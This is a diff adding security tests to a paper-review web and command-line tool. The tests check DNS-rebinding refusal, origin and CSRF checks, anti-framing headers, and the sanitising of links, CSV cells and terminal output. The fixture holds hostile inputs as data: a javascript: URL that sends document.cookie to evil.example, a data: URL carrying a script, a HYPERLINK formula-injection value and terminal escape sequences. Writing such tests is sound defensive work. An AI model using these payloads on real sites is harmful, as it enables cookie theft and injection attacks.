@@ -8,6 +8,7 @@ escapes.
 
 from __future__ import annotations
 
+import json
 import os
 import signal
 import sqlite3
@@ -15,6 +16,7 @@ import subprocess
 import sys
 from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import pytest
 from typer.testing import CliRunner
@@ -295,3 +297,195 @@ def test_other_database_errors_are_left_as_they_were(tmp_path: Path) -> None:
     full = sqlite3.OperationalError("database or disk is full")
     full.sqlite_errorname = "SQLITE_FULL"  # type: ignore[attr-defined]
     assert isinstance(store_error(full, "x.db"), StoreError)
+
+
+# -- the review UI answers only its own host ----------------------------------------------------
+
+
+@pytest.fixture
+def hostile_db(tmp_path: Path) -> Path:
+    """Papers whose text attacks: a javascript: url, markup, formulas, terminal escapes."""
+    source = tmp_path / "hostile.jsonl"
+    source.write_text(
+        "\n".join(
+            json.dumps(record)
+            for record in [
+                {
+                    "id": "js1",
+                    "title": HOSTILE_TITLE,
+                    "abstract": ABSTRACT,
+                    "url": "javascript:fetch('//evil.example/'+document.cookie)",
+                },
+                {
+                    "id": FORMULA_ID,
+                    "title": "=1+2",
+                    "abstract": ABSTRACT,
+                    "url": "data:text/html,<script>alert(1)</script>",
+                },
+                {
+                    "id": "ok1",
+                    "title": "A plain paper",
+                    "abstract": ABSTRACT,
+                    "url": "https://arxiv.org/abs/2501.00001",
+                },
+            ]
+        )
+        + "\n"
+    )
+    db = tmp_path / "hostile.db"
+    assert runner.invoke(app, ["run", str(source), "--db", str(db),
+                               "--out", str(tmp_path / "d.md")]).exit_code == 0  # fmt: skip
+    return db
+
+
+FORMULA_ID = '=HYPERLINK("http://evil.example")'
+HOSTILE_TITLE = (
+    "Fast \x1b]0;owned\x07serving\x1b[8m secret\x1b[0m <script>alert(1)</script>"
+    " [x](javascript:alert(2))"
+)
+ABSTRACT = "We serve models 2.1x faster than vLLM on one GPU, with 30% less memory."
+
+
+def _client(db: Path, host: str = "127.0.0.1") -> Any:
+    from fastapi.testclient import TestClient
+
+    from agent.cli.review import build_review_app
+    from agent.config import load_settings
+
+    app_ = build_review_app(load_settings(db=str(db)), reviewer="ana", host=host)
+    return TestClient(app_, base_url="http://127.0.0.1:8000")
+
+
+def _paper_id(db: Path, pid: str) -> int:
+    with sqlite3.connect(db) as conn:
+        return int(conn.execute("SELECT id FROM paper WHERE source_id = ?", (pid,)).fetchone()[0])
+
+
+def test_dns_rebinding_another_host_name_is_refused(hostile_db: Path) -> None:
+    # Before: any Host was answered, so a page on evil.example resolving to 127.0.0.1 read a
+    # token and approved a paper.
+    with _client(hostile_db) as client:
+        assert client.get("/", headers={"Host": "evil.example"}).status_code == 400
+        assert client.get("/", headers={"Host": "evil.example:8000"}).status_code == 400
+        for name in ("127.0.0.1:8000", "localhost:8000", "[::1]:8000", "LOCALHOST"):
+            assert client.get("/", headers={"Host": name}).status_code == 200, name
+        token = client.cookies.get("paperskim_csrf")
+        pid = _paper_id(hostile_db, "ok1")
+        stolen = client.post(
+            f"/papers/{pid}/approve",
+            headers={"Host": "evil.example", "X-CSRF-Token": token or ""},
+        )
+        assert stolen.status_code == 400
+    with _client(hostile_db, host="paperskim.lan") as client:
+        assert client.get("/", headers={"Host": "paperskim.lan:8000"}).status_code == 200
+
+
+def test_a_post_from_another_origin_is_refused_even_with_a_valid_token(hostile_db: Path) -> None:
+    with _client(hostile_db) as client:
+        client.get("/")
+        token = client.cookies.get("paperskim_csrf") or ""
+        pid = _paper_id(hostile_db, "ok1")
+        for header in (
+            {"Origin": "http://evil.example"},
+            {"Origin": "http://127.0.0.1:9999"},  # another port is another origin
+            {"Origin": "null"},
+            {"Referer": "http://evil.example/page"},
+        ):
+            refused = client.post(
+                f"/papers/{pid}/approve", headers={"X-CSRF-Token": token, **header}
+            )
+            assert refused.status_code == 403, header
+        mine = client.post(
+            f"/papers/{pid}/approve",
+            headers={
+                "X-CSRF-Token": token,
+                "Origin": "http://127.0.0.1:8000",
+                "HX-Request": "true",
+            },
+        )
+        assert mine.status_code == 200
+    with sqlite3.connect(hostile_db) as conn:
+        assert conn.execute("SELECT count(*) FROM review").fetchone()[0] == 1
+
+
+def test_no_page_can_be_framed_by_another_site_and_the_digest_preview_still_frames(
+    hostile_db: Path,
+) -> None:
+    # Before: no X-Frame-Options / frame-ancestors, and an Approve click was recorded from a
+    # frame on another port.
+    with _client(hostile_db) as client:
+        for path in ("/", f"/papers/{_paper_id(hostile_db, 'ok1')}", "/digest", "/nowhere"):
+            response = client.get(path)
+            assert response.headers["x-frame-options"] == "DENY", path
+            assert "frame-ancestors 'none'" in response.headers["content-security-policy"], path
+        frame = client.get("/digest/page")
+        assert frame.status_code == 200
+        assert frame.headers["x-frame-options"] == "SAMEORIGIN"
+        assert "frame-ancestors 'self'" in frame.headers["content-security-policy"]
+        assert "frame-src 'self'" in client.get("/digest").headers["content-security-policy"]
+
+
+def test_a_javascript_or_data_url_is_shown_as_text_never_as_a_link(hostile_db: Path) -> None:
+    with _client(hostile_db) as client:
+        page = client.get(f"/papers/{_paper_id(hostile_db, 'js1')}").text
+        assert 'href="javascript:' not in page and "javascript:fetch" in page
+        formula = _paper_id(hostile_db, FORMULA_ID)
+        data = client.get(f"/papers/{formula}")
+        assert 'href="data:' not in data.text
+        ok = client.get(f"/papers/{_paper_id(hostile_db, 'ok1')}").text
+        assert 'href="https://arxiv.org/abs/2501.00001"' in ok
+
+
+# -- exports, terminals and the Markdown digest ------------------------------------------------
+
+
+def test_csv_export_cells_cannot_run_as_spreadsheet_formulas(hostile_db: Path) -> None:
+    import csv
+    import io
+
+    result = runner.invoke(app, ["export", "--format", "csv", "--db", str(hostile_db)])
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    row = next(r for r in rows if "HYPERLINK" in r["id"])
+    assert row["id"].startswith("'=") and row["title"] == "'=1+2"
+    for cells in rows:
+        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells.values())
+    # JSONL is data for programs: unchanged.
+    jsonl = runner.invoke(app, ["export", "--db", str(hostile_db)])
+    ids = [json.loads(line)["id"] for line in jsonl.stdout.splitlines()]
+    assert '=HYPERLINK("http://evil.example")' in ids
+
+
+def _no_escapes(text: str) -> None:
+    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text, repr(text)
+
+
+def test_terminal_escapes_in_a_title_never_reach_the_terminal_in_show(hostile_db: Path) -> None:
+    result = runner.invoke(app, ["show", "js1", "--db", str(hostile_db)])
+    assert result.exit_code == 0, result.output
+    _no_escapes(result.stdout)
+    assert "secret" in result.stdout  # the text ESC[8m hid is now shown
+    assert "<script>alert(1)</script>" in result.stdout  # as text: a terminal runs no HTML
+
+
+def test_terminal_escapes_in_a_title_never_reach_the_terminal_in_review(hostile_db: Path) -> None:
+    result = runner.invoke(app, ["review", "--db", str(hostile_db)], input="s\ns\ns\n")
+    assert result.exit_code == 0, result.output
+    _no_escapes(result.stdout)
+    assert "secret" in result.stdout
+
+
+def test_the_markdown_digest_escapes_html_and_keeps_only_http_links(
+    hostile_db: Path, tmp_path: Path
+) -> None:
+    digest = (tmp_path / "d.md").read_text()
+    _no_escapes(digest)
+    assert "<script>" not in digest and "&lt;script&gt;" in digest
+    import re
+
+    assert not re.search(r"(?<!\\)\]\((javascript|data):", digest)  # only `\]` (escaped) is there
+    assert "[link](https://arxiv.org/abs/2501.00001)" in digest
+    from markdown_it import MarkdownIt
+
+    html = MarkdownIt("commonmark").render(digest)  # raw HTML on, as many renderers have it
+    assert "<script>" not in html and 'href="javascript:' not in html
